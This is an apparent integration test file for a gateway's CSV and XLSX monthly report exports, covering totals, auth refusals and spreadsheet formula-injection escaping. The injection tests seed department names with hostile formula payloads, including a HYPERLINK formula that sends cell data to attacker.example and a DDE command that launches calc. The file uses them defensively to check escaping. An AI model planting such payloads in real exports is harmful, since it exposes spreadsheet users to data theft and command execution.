import { parseString } from '@fast-csv/parse';
import ExcelJS from 'exceljs';
import { Client } from 'pg';
import { COLUMNS } from '../../gateway/exports';
import { startPrivateSystem, startSystem, TestSystem, tokenFor } from '../support/system';

describe('report exports from the gateway', () => {
  let system: TestSystem;
  let token: string;
  const base = () => system.gatewayUrl.replace(/\/graphql$/, '');
  beforeAll(async () => {
    system = await startSystem();
    token = await tokenFor({ subject: 'rb', role: 'REPORT_BUILDER' });
  });
  afterAll(() => system?.close());

  it('when April 2020 is exported as CSV, then it is the form II.06a table per department with a totals row that holds the report\'s figures', async () => {
    const res = await fetch(`${base()}/reports/monthly.csv?from=2020-04-01&to=2020-04-30`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').trim().split('\r\n').map((l) => l.split(','));
    expect(lines[0]).toEqual(COLUMNS);
    expect(lines).toHaveLength(22);
    const total = lines[lines.length - 1];
    expect(total[2]).toBe('Tổng cộng');
    expect(total.slice(3).map(Number)).toEqual([2704, 952, 1752, 645, 1062, 45, 1766, 966, 796, 4, 0, 938, 931, 7, 129]);
    expect(lines[1].slice(1, 3)).toEqual(['SGTVT', 'Sở Giao thông vận tải']);
  });

  it('when exported as XLSX, then the workbook holds the same table, the rates and the narrative', async () => {
    const res = await fetch(`${base()}/reports/monthly.xlsx?from=2020-04-01&to=2020-04-30`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const sheet = book.getWorksheet('II.06a')!;
    const last = sheet.getRow(sheet.rowCount);
    expect(last.getCell(3).value).toBe('Tổng cộng');
    expect(last.getCell(10).value).toBe(1766);
    const rates = book.getWorksheet('Tỷ lệ')!;
    const byLabel = Object.fromEntries(rates.getSheetValues().filter(Boolean).map((r: any) => [r[1], r[2]]));
    expect(byLabel['Đúng hạn và trước hạn']).toBe(99.77);
    expect(String(book.getWorksheet('Thuyết minh')!.getRow(1).getCell(1).value)).toContain('1.766 hồ sơ');
  });

  it('when there is no token, a bad date or another department\'s officer, then the export is refused with a code', async () => {
    expect((await fetch(`${base()}/reports/monthly.csv?from=2020-04-01&to=2020-04-30`)).status).toBe(403);
    const bad = await fetch(`${base()}/reports/monthly.csv?from=2020-04-31&to=2020-05-01`, { headers: { authorization: `Bearer ${token}` } });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as any).code).toBe('BAD_USER_INPUT');
    const officer = await tokenFor({ subject: 'o', role: 'DEPARTMENT_OFFICER', department: 'SCT' });
    const other = await fetch(`${base()}/reports/monthly.xlsx?from=2020-04-01&to=2020-04-30&departmentCode=CAT`, { headers: { authorization: `Bearer ${officer}` } });
    expect(other.status).toBe(403);
    const forged = await fetch(`${base()}/reports/monthly.csv?from=2020-04-01&to=2020-04-30`, { headers: { authorization: 'Bearer a.b.c' } });
    expect(forged.status).toBe(401);
  });
});

describe('report exports of names that read as formulas', () => {
  let running: Awaited<ReturnType<typeof startPrivateSystem>>;
  let token: string;
  // What a spreadsheet would run: each begins with one of =, +, -, @, a tab, a CR.
  const formulas = ['=HYPERLINK("http://attacker.example/?x="&A1,"Mở")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
  const renamed = new Map<string, string>();
  const base = () => running.system.gatewayUrl.replace(/\/graphql$/, '');
  const download = (format: string) =>
    fetch(`${base()}/reports/monthly.${format}?from=2020-04-01&to=2020-04-30`, { headers: { authorization: `Bearer ${token}` } });
  beforeAll(async () => {
    running = await startPrivateSystem('exports_formulas');
    token = await tokenFor({ subject: 'rb', role: 'REPORT_BUILDER' });
    const intake = new Client({ connectionString: running.system.urls.intake });
    await intake.connect();
    try {
      const { rows } = await intake.query('SELECT code FROM department ORDER BY code LIMIT $1', [formulas.length]);
      for (const [i, { code }] of rows.entries()) {
        await intake.query('UPDATE department SET name = $1 WHERE code = $2', [formulas[i], code]);
        renamed.set(code, formulas[i]);
      }
    } finally {
      await intake.end();
    }
  });
  afterAll(() => running?.close());

  it('when department names begin with a formula character, then the CSV holds each as text, behind an apostrophe', async () => {
    const res = await download('csv');
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const rows: string[][] = await new Promise((resolve, reject) => {
      const all: string[][] = [];
      parseString(text, { headers: false })
        .on('data', (r: string[]) => all.push(r))
        .on('end', () => resolve(all))
        .on('error', reject);
    });
    expect(rows[0]).toEqual(COLUMNS);
    const names = new Map(rows.slice(1).map((r) => [r[1], r[2]]));
    expect(renamed.size).toBe(formulas.length);
    for (const [code, name] of renamed) expect(names.get(code)).toBe(`'${name}`);
  });

  it('when department names begin with a formula character, then the workbook holds each as a text cell, behind an apostrophe, and no formula', async () => {
    const res = await download('xlsx');
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const sheet = book.getWorksheet('II.06a')!;
    const names = new Map<string, ExcelJS.Cell>();
    sheet.eachRow((row) => void names.set(String(row.getCell(2).value), row.getCell(3)));
    for (const [code, name] of renamed) {
      expect(names.get(code)?.type).toBe(ExcelJS.ValueType.String);
      // XML reads a CR as a line feed.
      expect(names.get(code)?.value).toBe(`'${name.replace(/\r/g, '\n')}`);
    }
    book.eachSheet((s) => s.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))));
  });
});
